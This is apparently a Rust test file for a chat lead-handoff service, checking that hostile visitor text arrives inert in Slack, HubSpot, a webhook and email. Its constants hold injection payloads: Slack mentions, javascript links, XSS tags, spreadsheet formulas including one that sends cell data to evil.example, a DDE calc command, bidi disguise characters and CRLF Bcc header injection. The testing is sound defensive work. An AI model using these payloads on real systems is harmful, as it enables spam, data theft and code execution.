//! Visitors who mean no good: what they write as a name, a company, a message reaches people as the
//! text that it is, by every channel.

use reqwest::StatusCode;
use sandbox::{
    anthropic::{Content, Reply},
    slack::PostedMessage,
    smtp::ReceivedMail,
    switch::Trouble,
    world::WorldPage,
};
use serde_json::{Value, json};

use crate::support::{ApiProcess, TestSystem, frames::PATIENCE};

/// Text that some channel would take for more than text, each below the limits of the contact form.
const HOSTILE: [&str; 8] = [
    "<!channel> <!here> <@U0ANNA> <#C0NEWLEADS>",
    "<http://evil.example/|Click here> [Click](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "<img src=x onerror=alert(1)><script>alert(1)</script><h1>Injected</h1>",
    "*bold* _italic_ ~strike~ `code` ```pre``` &lt;!channel&gt;",
    "Ada\u{202e}gro.live\u{2066}\u{200b}\u{feff}\u{200f} L.",
    "Ada\" <a@evil.example>, Bcc: victim@evil.example; =?utf-8?q?X=0ABcc:_v=40evil.example?=",
];
/// What belongs into no header.
const INJECTION: &str = "Hello\r\nBcc: victim@evil.example\r\nSubject: Injected\r\n\r\n<h1>Injected</h1>\r\n.\r\nQUIT\r\n";
/// What changes in which direction a text reads, or hides something.
const DISGUISES: [char; 12] = [
    '\u{200e}', '\u{200f}', '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2066}',
    '\u{2067}', '\u{2068}', '\u{2069}', '\u{feff}',
];

#[tokio::test]
async fn hostile_details_arrive_inert_in_slack_and_in_hubspot() {
    let system = TestSystem::new().await;
    let (api, _worker) = (system.api().await, system.worker().await);
    let visitors = leave_hostile_details(&system, &api, "").await;
    until_settled(&system, "delivered", visitors).await;

    let slack = &system.people.slack;
    let messages = slack.messages();
    assert_eq!(messages.len(), visitors);
    for message in &messages {
        assert_inert_in_slack(message);
    }
    // As people see it: nothing is formatted, mentioned or linked that a visitor wrote.
    let page = WorldPage::start(system.world.clone(), system.people.clone(), None, 0);
    let page = page.await.unwrap();
    let html = system.client.get(page.url()).send().await.unwrap();
    let html = html.text().await.unwrap();
    for effect in [
        "class=\"mention\"",
        "href=\"http://evil",
        "href=\"javascript:",
        "<strong>bold",
        "<em>italic",
        "<s>strike",
        "<code>code",
        "<pre>pre",
        "<img",
        "<script>",
        "<h1>Injected",
    ] {
        assert!(!html.contains(effect), "{effect} in {html}");
    }

    let hubspot = &system.people.hubspot;
    assert_eq!(hubspot.contacts().len(), visitors);
    for contact in hubspot.contacts() {
        for (property, value) in &contact.properties {
            assert_inert_value(property, value);
        }
    }
    let notes = hubspot.notes();
    assert_eq!(notes.len(), visitors);
    for note in notes {
        assert_inert_html(&note.body);
    }
}

#[tokio::test]
async fn hostile_details_arrive_inert_at_a_webhook() {
    let mut system = TestSystem::new().await;
    let url = format!("{}/crm", system.people.receiver.url());
    for (name, value) in [
        ("CRM_PROVIDER", "webhook"),
        ("CRM_WEBHOOK_URL", &url),
        ("CRM_WEBHOOK_SECRET", sandbox::receiver::WEBHOOK_SECRET),
    ] {
        system.set(name, value);
    }
    let (api, _worker) = (system.api().await, system.worker().await);
    let visitors = leave_hostile_details(&system, &api, "=").await;
    until_settled(&system, "delivered", visitors).await;

    let receiver = &system.people.receiver;
    assert_eq!(receiver.refused(), 0);
    let taken = receiver.taken_at("/crm");
    assert_eq!(taken.len(), visitors);
    for delivery in taken {
        let told = &delivery.body["data"];
        for part in ["lead", "summary", "transcript", "page_url"] {
            for_each_text(&told[part], &mut |text| assert_inert_value(part, text));
        }
    }
}

#[tokio::test]
async fn hostile_details_arrive_inert_in_a_mail() {
    let system = TestSystem::new().await;
    let people = &system.people;
    people.slack.switch().set(Some(refusal("invalid_auth")));
    people
        .slack
        .webhook_switch()
        .set(Some(refusal("no_service")));
    people.hubspot.switch().set(Some(Trouble::Status(401)));
    let (api, _worker) = (system.api().await, system.worker().await);
    let visitors = leave_hostile_details(&system, &api, "=").await;
    until_settled(&system, "mailed", visitors).await;

    let mails = people.smtp.mails();
    assert_eq!(mails.len(), visitors);
    for mail in &mails {
        assert_inert_mail(mail);
    }
}

#[tokio::test]
async fn a_name_of_ten_thousand_letters_is_refused_in_the_form_and_cut_from_the_model() {
    let mut system = TestSystem::new().await;
    // The model may say that much.
    system.set("LLM_MAX_OUTPUT_TOKENS", "8192");
    let long = "Ada ".repeat(2_500);
    let handoff = Content::ToolUse {
        name: "request_handoff".to_owned(),
        input: json!({"reason": "explicit_wish", "name": long, "need": long,
            "email": "ada@visitor.example"}),
    };
    let words = Content::Text {
        text: "Of course.".to_owned(),
        citations: Vec::new(),
    };
    system
        .anthropic
        .on("a person", Reply::content(vec![words, handoff]));
    let (api, _worker) = (system.api().await, system.worker().await);
    let question = "May I talk to a person?";
    api.ask("s1", "m1", question).await.rest().await;
    for (name, status) in [
        (long.as_str(), StatusCode::UNPROCESSABLE_ENTITY),
        (
            "Ada\r\nBcc: x@evil.example",
            StatusCode::UNPROCESSABLE_ENTITY,
        ),
        ("Ada\0", StatusCode::BAD_REQUEST),
    ] {
        let details = json!({"name": name, "email": "ada@visitor.example", "consent": true});
        let request = api.post("/chat/s1/contact").json(&details);
        assert_eq!(request.send().await.unwrap().status(), status);
    }
    until_settled(&system, "delivered", 1).await;
    let message = &system.people.slack.messages()[0];
    assert!(message.everything().contains("Ada Ada"), "{message:?}");
    assert_inert_in_slack(message);
    let contact = &system.people.hubspot.contacts()[0];
    let name = contact.get("firstname");
    assert!(name.starts_with("Ada"), "{name}");
    assert!(name.chars().count() < 300, "{name}");
}

fn refusal(code: &str) -> Trouble {
    Trouble::Refuse(code.to_owned())
}

/// Each hostile text is somebody's name or company, and stands in what they write; says how many they are.
async fn leave_hostile_details(system: &TestSystem, api: &ApiProcess, email_begins: &str) -> usize {
    system
        .anthropic
        .on("Hello", Reply::text("<!channel> Good day."));
    let (names, companies) = HOSTILE.split_at(HOSTILE.len() / 2);
    for (number, (name, company)) in names.iter().zip(companies).enumerate() {
        let session = format!("s{number}");
        let written = format!("{name}\n{company}\n{INJECTION}");
        let message = json!({
            "session_id": session, "message_id": "m1", "message": written,
            "page_url": "https://www.company.example/?<script>alert(1)</script>|x>",
        });
        let answered = api.post("/chat").json(&message).send().await.unwrap();
        assert_eq!(answered.status(), StatusCode::OK);
        answered.bytes().await.unwrap();
        let email = format!("{email_begins}s{number}@visitor.example");
        let details = json!({
            "name": name, "company": company, "email": email, "message": written, "consent": true,
        });
        let path = format!("/chat/{session}/contact");
        let taken = api.post(&path).json(&details).send().await.unwrap();
        assert_eq!(taken.status(), StatusCode::ACCEPTED, "{name}");
    }
    names.len()
}

/// Waits until so many handoffs have come to this end.
async fn until_settled(system: &TestSystem, status: &str, wanted: usize) {
    let pool = system.pool().await;
    let settled = async {
        loop {
            let statuses: Vec<String> = sqlx::query_scalar(
                "select status::text from handoff_records where status <> 'pending'",
            )
            .fetch_all(&pool)
            .await
            .unwrap();
            if statuses.len() == wanted {
                return statuses;
            }
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
    };
    let statuses = tokio::time::timeout(PATIENCE, settled).await;
    let statuses = statuses.expect("they are settled");
    assert!(statuses.iter().all(|it| it == status), "{statuses:?}");
}

#[track_caller]
fn assert_inert_in_slack(message: &PostedMessage) {
    let mut texts = vec![message.text.clone()];
    let mut plain = Vec::new();
    collect(&message.blocks, &mut texts, &mut plain);
    for text in &texts {
        for part in text.split('<').skip(1) {
            let control = part.split('>').next().unwrap();
            // Our times are told in the reader's zone.
            let is_ours = control.starts_with("https://www.company.example/")
                || control.starts_with("!date^");
            assert!(is_ours, "<{control}> in {text}");
        }
    }
    for text in texts.iter().chain(&plain) {
        assert_no_disguise(text);
    }
}

/// The texts of blocks: those that are formatted, and those that are not.
fn collect(blocks: &Value, formatted: &mut Vec<String>, plain: &mut Vec<String>) {
    match blocks {
        Value::Array(items) => items
            .iter()
            .for_each(|item| collect(item, formatted, plain)),
        Value::Object(fields) => {
            if let Some(text) = fields.get("text").and_then(Value::as_str) {
                let is_formatted = fields.get("type") == Some(&json!("mrkdwn"));
                let texts = if is_formatted {
                    &mut *formatted
                } else {
                    &mut *plain
                };
                texts.push(text.to_owned());
            }
            fields
                .values()
                .for_each(|field| collect(field, formatted, plain));
        }
        _ => {}
    }
}

/// A spreadsheet runs what begins like a formula.
#[track_caller]
fn assert_inert_value(name: &str, value: &str) {
    let begins_badly = value.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']);
    // An address can't be changed and stay the address; it is no formula with an `@` in it.
    assert!(
        !begins_badly || value.ends_with("@visitor.example"),
        "{name}: {value}"
    );
    assert_no_disguise(value);
}

#[track_caller]
fn assert_no_disguise(text: &str) {
    let is_bad = |sign: char| (sign.is_control() && sign != '\n') || DISGUISES.contains(&sign);
    assert!(!text.contains(is_bad), "{text:?}");
}

/// Markup of ours only: no element, attribute or link that a visitor named.
#[track_caller]
fn assert_inert_html(html: &str) {
    let lower = html.to_lowercase();
    for tag in [
        "<img",
        "<script",
        "<h1>injected",
        "<iframe",
        "<svg",
        "<form",
        "<object",
    ] {
        assert!(!lower.contains(tag), "{tag} in {html}");
    }
    for target in lower.split("href=\"").skip(1) {
        let target = target.split('"').next().unwrap();
        assert!(!target.contains("evil.example"), "{target} in {html}");
        assert!(!target.starts_with("javascript:"), "{target} in {html}");
    }
    assert_no_disguise(html.replace('\r', "").as_str());
}

#[track_caller]
fn assert_inert_mail(mail: &ReceivedMail) {
    assert_eq!(mail.recipients, ["sales@company.example"]);
    let count = |name: &str| {
        let named = mail.headers.iter();
        named
            .filter(|(header, _)| header.eq_ignore_ascii_case(name))
            .count()
    };
    for (name, times) in [
        ("Subject", 1),
        ("To", 1),
        ("From", 1),
        ("Message-ID", 1),
        ("Bcc", 0),
        ("Cc", 0),
    ] {
        assert_eq!(count(name), times, "{name}: {:?}", mail.headers);
    }
    assert!(count("Reply-To") <= 1, "{:?}", mail.headers);
    assert!(
        !mail.subject.contains(char::is_control),
        "{:?}",
        mail.subject
    );
    assert_no_disguise(&mail.subject);
    assert_no_disguise(&mail.text.replace('\r', ""));
    assert!(!mail.html.is_empty());
    assert_inert_html(&mail.html);
}

fn for_each_text(value: &Value, check: &mut impl FnMut(&str)) {
    match value {
        Value::String(text) => check(text),
        Value::Array(items) => items.iter().for_each(|item| for_each_text(item, check)),
        Value::Object(fields) => fields
            .values()
            .for_each(|field| for_each_text(field, check)),
        _ => {}
    }
}
